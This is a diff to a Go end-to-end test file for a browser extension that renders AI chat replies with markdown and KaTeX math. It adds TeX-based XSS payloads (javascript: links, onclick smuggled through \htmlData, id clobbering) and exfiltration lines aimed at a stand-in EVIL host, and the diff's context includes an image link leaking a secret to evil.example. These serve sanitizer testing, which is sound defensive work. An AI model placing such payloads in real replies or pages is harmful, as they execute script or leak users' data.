@@ -3,6 +3,7 @@
 package e2e
 
 import (
+	"context"
 	"fmt"
 	"io"
 	"net/http"
@@ -92,6 +93,9 @@ var xssCorpus = []string{
 	`<input autofocus onfocus="window.__xss=27">`,
 	`<video><source onerror="window.__xss=28"></video>`,
 	`<div style="background:url(javascript:window.__xss=29)">styled</div>`,
+	`$\href{javascript:window.__xss=31}{math link}$ and $$\url{javascript:window.__xss=32}$$`,
+	`<span class="math">\href{javascript:window.__xss=33}{x}\htmlStyle{background:red}{y}</span>`,
+	`\(\htmlClass{msg}{\htmlId{messages}{z}}\) \[\htmlData{onclick=window.__xss=34}{w}\]`,
 	`<a href="https://ok.example/" onclick="window.__xss=30">ok link with onclick</a>`,
 	`![tracker](https://evil.example/leak?q=secret)`,
 	`<a href="https://ok.example/" target="_self" id="messages">clobber</a>`,
@@ -101,17 +105,30 @@ var xssCorpus = []string{
 const unsafeJS = `((root) => {
 	const bad = [];
 	const banned = "script,iframe,object,embed,svg,math,style,link,meta,base,form,input,textarea,select,img,video,audio,source,picture,frame,frameset,template,noscript";
-	for (const n of root.querySelectorAll(banned)) bad.push("element " + n.nodeName);
+	// KaTeX's own drawing of math (after the sanitizer: a model cannot mark an element drawn)
+	// holds MathML and sizes in style attributes; links, handlers and ids are checked there too.
+	const drawn = (n) => !!n.closest(".math[data-drawn], .math-block[data-drawn]");
+	for (const n of root.querySelectorAll(banned)) if (!(n.localName === "math" && drawn(n))) bad.push("element " + n.nodeName);
 	for (const n of root.querySelectorAll("*")) {
+		if (n.matches(".katex, .katex *") && !drawn(n)) bad.push("KaTeX's classes outside math it drew: " + n.outerHTML.slice(0, 80));
 		for (const a of n.attributes) {
 			if (/^on/i.test(a.name)) bad.push(n.nodeName + " has " + a.name);
-			if (a.name === "style" || a.name === "id" || a.name === "name" || a.name === "srcdoc" || a.name === "formaction") bad.push(n.nodeName + " has " + a.name);
+			if ((a.name === "style" && !drawn(n)) || a.name === "id" || a.name === "name" || a.name === "srcdoc" || a.name === "formaction") bad.push(n.nodeName + " has " + a.name);
 			if (/^(href|src|action|data|xlink:href)$/i.test(a.name) && !/^(https?:|mailto:)/i.test(a.value)) bad.push(n.nodeName + " " + a.name + "=" + a.value);
 		}
 	}
 	for (const a of root.querySelectorAll("a[href]")) if (a.target !== "_blank" || !/noopener/.test(a.rel)) bad.push("link without target/rel: " + a.href);
 	return bad;
 })`
+
+// mathReady has page's renderer draw a formula and waits until KaTeX drew it: KaTeX is loaded
+// the first time a reply holds math, and what a check reads after that is KaTeX's drawing.
+func mathReady(t *testing.T, page context.Context) {
+	t.Helper()
+	JS[bool](t, page, `(() => { const d = document.createElement("div"); d.id = "math-ready"; d.append(skiffTest.markdown.render("$x^2$")); document.body.append(d); return true })()`)
+	WaitJS(t, page, `!!document.querySelector("#math-ready .math[data-drawn] .katex")`)
+	JS[bool](t, page, `(document.getElementById("math-ready").remove(), true)`)
+}
 
 // rendererPage serves the panel's renderer (markdown.js and its pinned libraries, as built)
 // on a plain http page with no Content-Security-Policy: there, anything the sanitizer lets
@@ -147,6 +164,7 @@ func TestXSSCorpusNeverExecutes(t *testing.T) {
 		t.Fatal("the DOM check does not see a raw onerror handler")
 	}
 	JS[bool](t, page, `(window.__raw.remove(), delete window.__xss, true)`)
+	mathReady(t, page)
 
 	// Each payload alone through the renderer, inserted into the live document.
 	for i, p := range xssCorpus {
@@ -236,6 +254,7 @@ var exfilCorpus = []string{
 	`<div data-src="EVIL/data-src" data-background="EVIL/data-bg">lazy-load bait</div>`,
 	`<blockquote cite="EVIL/cite">quote</blockquote><q cite="EVIL/q">q</q>`,
 	`<a href="EVIL/link?c=secret">a plain link: fetched only if the user clicks</a>`,
+	`$\includegraphics{EVIL/tex-img.png}$ $$\href{EVIL/tex-href}{\text{click}}$$ \(\url{EVIL/tex-url}\)`,
 }
 
 // TestExfiltrationCorpusLoadsNothing renders replies that try to make the panel fetch an
@@ -254,6 +273,7 @@ func TestExfiltrationCorpusLoadsNothing(t *testing.T) {
 
 	page := browser.Tab(t, rendererPage(t))
 	WaitJS(t, page, `typeof skiffTest === "object"`)
+	mathReady(t, page)
 	for _, p := range corpus {
 		JS[bool](t, page, fmt.Sprintf(`(() => { const d = document.createElement("div"); d.append(skiffTest.markdown.render(%s)); document.body.append(d); return true })()`, jsString(p)))
 	}
@@ -296,4 +316,43 @@ func TestExfiltrationCorpusLoadsNothing(t *testing.T) {
 	// Control: without the CSP, the same markup is fetched and counted.
 	JS[bool](t, page, fmt.Sprintf(`(() => { const d = document.createElement("div"); d.innerHTML = %s; document.body.append(d); return true })()`, jsString(raw)))
 	Eventually(t, 5*time.Second, func() bool { return len(site.EvilHits()) >= seen+3 }, "the counting server saw nothing from raw markup on a page without the CSP")
+}
+
+// Math in a reply is drawn with KaTeX, in the panel as the model streams it: TeX between $…$,
+// \(…\), $$…$$ and \[…\] (set apart, or inside a paragraph as models write it: the paragraph
+// is cut there, the formula set apart between its two halves), with KaTeX's
+// fonts from the extension; dollar amounts and code stay as written, TeX KaTeX cannot read
+// shows as written (marked), and the result passes the same check as every reply.
+func TestMathIsDrawn(t *testing.T) {
+	reply := "Energy: $E = mc^2$, and \\(a^2 + b^2 = c^2\\).\n\n" +
+		"$$\n\\int_0^1 x\\,dx = \\frac{1}{2}\n$$\n\n" +
+		"The sum\n\\[\n\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}\n\\]\nwhere n counts.\n\n" +
+		"It costs $5 and $10 today. Code: `$HOME` and `$x$`.\n\n" +
+		"Broken: $\\frac{1}{$ stays readable."
+	tab := browser.FreshPanel(t)
+	srv := testkit.OpenAIText(t, reply, 9, 5*time.Millisecond)
+	Configure(t, tab, "openai", srv.URL, "sk-math", "gpt-test")
+	SendMessage(t, tab, "some math")
+	WaitJS(t, tab, lastAssistant+`?.dataset.status === "done"`)
+	c := lastAssistant + `.querySelector(".content")`
+	WaitJS(t, tab, c+`.querySelectorAll(".math[data-drawn] .katex").length === 2 && `+c+`.querySelectorAll(".math-block[data-drawn] .katex-display").length === 2 && `+c+`.querySelectorAll(".math[data-drawn] .katex-error").length === 1`)
+	got := JS[map[string]any](t, tab, `(() => { const c = `+c+`; return {
+		prices: [...c.querySelectorAll("p")].some(p => p.textContent.includes("It costs $5 and $10 today.")),
+		code: [...c.querySelectorAll("code")].map(x => x.textContent).join("|"),
+		where: c.querySelector(".math-block").closest("p") ? "p" : "",
+		inPara: [...c.querySelectorAll("p")].some(p => p.textContent === "The sum" && p.nextElementSibling.matches("p.math-block") && p.nextElementSibling.nextElementSibling.textContent === "where n counts."),
+		tex: c.querySelector(".math").title,
+		mathml: c.querySelector(".math .katex-mathml annotation").textContent,
+	} })()`)
+	want := map[string]any{"prices": true, "code": "$HOME|$x$", "where": "p", "inPara": true, "tex": "E = mc^2", "mathml": "E = mc^2"}
+	for k, v := range want {
+		if got[k] != v {
+			t.Errorf("%s: %v, want %v", k, got[k], v)
+		}
+	}
+	if bad := JS[[]string](t, tab, unsafeJS+`(document.getElementById("messages"))`); len(bad) > 0 {
+		t.Errorf("math rendered unsafely: %v", bad)
+	}
+	// KaTeX's fonts come from the extension (the panel's CSP allows nothing else).
+	WaitJS(t, tab, `document.fonts.ready.then(() => [...document.fonts].some(f => f.family.replace(/"/g, "") === "KaTeX_Main" && f.status === "loaded"))`)
 }
